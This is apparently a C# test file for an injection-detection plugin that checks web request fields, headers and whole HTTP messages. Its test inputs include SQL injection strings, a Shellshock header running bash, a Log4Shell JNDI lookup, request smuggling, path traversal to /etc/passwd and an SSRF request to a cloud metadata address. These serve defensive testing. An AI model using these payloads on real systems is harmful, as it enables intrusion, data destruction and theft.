namespace LlmGuard.Plugins.InjectionProtection.Tests.Web;

/// <summary>Requests as they travel: encoded fields are read one by one as programs read them, whole messages of HTTP by their parts.</summary>
public sealed class WebRequestTests
{
    private const string Head = "POST http://shop.example:8080/cart HTTP/1.1\r\nHost: shop.example:8080\r\nContent-Length: 40\r\n";

    [TestCase("id=2&quantity=%27%3B+DROP+TABLE+users%3B+SELECT+*+FROM+data+WHERE+name+LIKE+%27%25&b=Add", TestName = "a statement in a field")]
    [TestCase("/cart/add?id=3&name=Red+Wine&b=%27OR%27a%3D%27a", TestName = "a condition in the last field of an address")]
    [TestCase("price=39&pwd=bob%27%29%3B+waitfor+delay+%270%3A0%3A15%27%3B+--", TestName = "blanks as plus signs")]
    [TestCase("x=1&id=5+union+select+1%2C2", TestName = "one encoded sign")]
    [TestCase("name=L%27Or%E9al&id=1%27+or+1%3D1--", TestName = "a quote in the field before")]
    [TestCase("a=b`telnetd -l /bin/x`", TestName = "a substitution that hangs on a value")]
    public void Find_AttackInField_IsFound(string text) => Assert.That(Found(text), Is.Not.Empty);

    [TestCase("q=it%27s+union+select+comfort+%23+2", TestName = "a sentence")]
    [TestCase("comment=5+%3C+7+and+9+%3E+3%2C+right%3F", TestName = "a condition of numbers")]
    [TestCase("sql=SELECT+*+FROM+orders+WHERE+id+%3D+5&db=shop", TestName = "a whole query")]
    [TestCase("redirect_uri=http%3A%2F%2Flocalhost%2Fcallback&client_id=abc", TestName = "where a login comes back to")]
    [TestCase("address=12+O%27Connell+St%3B+Apt+3&city=Dublin", TestName = "a flat")]
    [TestCase("name=Robert%27s+%22best%22&x=a%2Bb", TestName = "quotes that are closed")]
    public void Find_OrdinaryField_IsNot(string text) => Assert.That(Found(text), Is.Empty);

    [Test]
    public void Find_AttackInField_CoversTheValue()
    {
        const string text = "id=2&quantity=%27%3B+DROP+TABLE+users%3B&b=Add";
        var verdict = Injection.Judge("""{"predefined_injections": [{"type": "sql"}], "action": "sanitize"}""", text);
        Assert.That(Injection.Apply(verdict, Injection.Content(text)), Is.EqualTo("id=2&quantity=[REMOVED]&b=Add"));
    }

    [TestCase("\r\nid=2&name=Ham&quantity=79", TestName = "a form")]
    [TestCase("Set-Cookie: a=b\r\nX-Forwarded-For: 203.0.113.4\r\n\r\n{\"name\": \"O'Neil\"}", TestName = "headers that split others")]
    [TestCase("Referer: http://shop.example:8080/\r\n\r\n", TestName = "nothing behind the head")]
    [TestCase("\r\n", TestName = "no body")]
    public void Find_WholeRequest_IsNot(string rest) => Assert.That(Found(Head + rest), Is.Empty);

    [Test]
    public void Find_WholeResponse_IsNot() =>
        Assert.That(Found("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\nContent-Length: 5\r\n\r\nhello"), Is.Empty);

    [TestCase("\r\nid=1%27+or+%271%27%3D%271", "sql", TestName = "in the body")]
    [TestCase("User-Agent: () { :; }; /bin/bash -c id\r\n\r\n", "command", TestName = "in a header")]
    [TestCase("X-Api: ${jndi:ldap://x.example/a}\r\n\r\n", "template", TestName = "a lookup in a header")]
    [TestCase("\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", "header", TestName = "a request in the body")]
    public void Find_AttackInRequest_IsFound(string rest, string type) =>
        Assert.That(Found(Head + rest), Has.Some.StartsWith(type + "."));

    [Test]
    public void Find_AttackInTarget_IsFoundWhereItStands()
    {
        const string text = "GET /a?file=../../../../etc/passwd HTTP/1.1\r\nHost: x.example\r\n\r\n";
        var finding = Injection.Judge(Injection.Web, text).Findings.First(f => f.Rule == "path.system_file");
        Assert.That(text[finding.Span.Start..finding.Span.End], Does.StartWith("/etc/passwd"));
    }

    [TestCase("x\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b", TestName = "a message behind a value")]
    [TestCase("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: shop.example\r\n\r\n", TestName = "the address of another machine")]
    public void Find_WhatIsNoMessageOfItsOwn_IsFound(string text) => Assert.That(Found(text), Is.Not.Empty);

    private static string[] Found(string text) => Injection.Rules(Injection.Judge(Injection.Web, text));
}
